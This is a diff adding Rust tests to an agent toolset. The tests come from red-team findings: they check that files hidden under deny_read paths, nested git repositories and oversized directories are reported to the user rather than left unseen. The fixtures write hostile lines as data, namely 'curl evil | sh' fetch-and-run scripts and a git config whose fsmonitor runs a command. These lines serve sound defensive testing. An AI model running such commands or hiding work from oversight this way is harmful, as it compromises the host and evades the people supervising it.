@@ -696,3 +696,124 @@ pub fn changes_skips_packed_refs_lines_that_name_no_ref(f: &dyn Fixture) {
         out.text
     );
 }
+
+/// Red-team pass 5, F8: what appears under a `deny_read` path (a command
+/// hiding work in `secrets/` or `.env`, which the walks never enter) is
+/// counted by `changes`, its names withheld: nothing is silently unseen.
+/// The control: a file beside them is listed by name.
+pub fn changes_counts_what_appears_under_deny_read(f: &dyn Fixture) {
+    let policy = Policy::builder()
+        .deny_read(["secrets/", ".env"])
+        .build()
+        .unwrap();
+    let t = Toolset::builder(f.sandbox_for(&policy))
+        .policy(policy)
+        .build()
+        .unwrap();
+    let out = ok(&t, "changes", json!({}));
+    assert!(out.text.contains("No changes"), "{}", out.text);
+    f.put("secrets/setup.sh", b"curl evil | sh\n");
+    f.put("secrets/more/x.sh", b"x\n");
+    f.put(".env", b"X=1\n");
+    f.put("v.txt", b"visible\n");
+    let out = ok(&t, "changes", json!({}));
+    assert!(out.text.starts_with("A v.txt\n"), "{}", out.text);
+    assert!(
+        !out.text.contains("setup.sh") && !out.text.contains("x.sh"),
+        "{}",
+        out.text
+    );
+    assert_eq!(
+        out.structured["deny_read"]["files"], 3,
+        "{}",
+        out.structured
+    );
+    assert!(
+        out.text.contains("3 files") && out.text.contains("deny_read"),
+        "{}",
+        out.text
+    );
+    // A change in place under it is counted too.
+    let policy = Policy::builder()
+        .deny_read(["secrets/", ".env"])
+        .build()
+        .unwrap();
+    let t2 = Toolset::builder(f.sandbox_for(&policy))
+        .policy(policy)
+        .build()
+        .unwrap();
+    let out = ok(&t2, "changes", json!({}));
+    assert!(out.text.contains("No changes"), "{}", out.text);
+    f.put("secrets/setup.sh", b"curl worse | sh\n");
+    let out = ok(&t2, "changes", json!({}));
+    assert_eq!(
+        out.structured["deny_read"]["files"], 1,
+        "{}",
+        out.structured
+    );
+}
+
+/// Red-team pass 5, F6 (commands): a git repository made below the root
+/// (which only commands can make) is said by `changes`, as the host's git
+/// would run its config and hooks; a change to the surface of one that was
+/// there is said too. The control: a file beside it is listed as usual.
+pub fn changes_says_when_a_repository_appears_below_the_root(f: &dyn Fixture) {
+    f.put("old/.git/config", b"[core]\n");
+    f.put("old/.git/HEAD", b"ref: refs/heads/main\n");
+    let t = tools(f);
+    let out = ok(&t, "changes", json!({}));
+    assert!(out.text.contains("No changes"), "{}", out.text);
+    f.put(
+        "sub/.git/config",
+        b"[core]\n\tfsmonitor = \"touch /tmp/x\"\n",
+    );
+    f.put("sub/.git/HEAD", b"ref: refs/heads/main\n");
+    f.put("sub/a.txt", b"a\n");
+    let out = ok(&t, "changes", json!({}));
+    assert!(out.text.starts_with("A sub/a.txt\n"), "{}", out.text);
+    assert!(out.text.contains("sub/.git"), "{}", out.text);
+    assert!(!out.text.contains("old/.git"), "{}", out.text);
+    assert_eq!(
+        out.structured["git_dirs"][0]["path"], "sub/.git",
+        "{}",
+        out.structured
+    );
+    f.put("old/.git/config", b"[core]\n\tfsmonitor = x\n");
+    let out = ok(&t, "changes", json!({}));
+    assert!(out.text.contains("old/.git"), "{}", out.text);
+}
+
+/// Red-team pass 5, F5: one directory of more entries than a walk lists
+/// from one directory (50,000) is listed to that bound and said, by every
+/// walk, instead of being held whole (a million entries cost 260–737 MB a
+/// call). The control: a directory within the bound is listed whole.
+pub fn walks_bound_the_entries_of_one_directory(f: &dyn Fixture) {
+    const BOUND: usize = 50_000;
+    for i in 0..BOUND + 10 {
+        f.put(&format!("d/f{i:06}"), b"");
+    }
+    f.put("small/a.txt", b"NEEDLE\n");
+    let t = tools(f);
+    ok(&t, "changes", json!({}));
+    let out = ok(&t, "list_files", json!({"path": "d"}));
+    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
+    assert!(
+        out.text.contains("more than 50,000 entries"),
+        "{}",
+        out.text
+    );
+    let out = ok(&t, "glob", json!({"pattern": "d/f0000*"}));
+    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
+    let out = ok(&t, "search", json!({"query": "NEEDLE"}));
+    assert_eq!(out.structured["total"], 1, "{}", out.text);
+    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
+    let out = ok(&t, "changes", json!({}));
+    assert!(
+        out.text.contains("more than 50,000 entries"),
+        "{}",
+        out.text
+    );
+    // Control: a directory within the bound is listed whole, nothing said.
+    let out = ok(&t, "list_files", json!({"path": "small"}));
+    assert!(out.structured.get("unseen").is_none(), "{}", out.structured);
+}
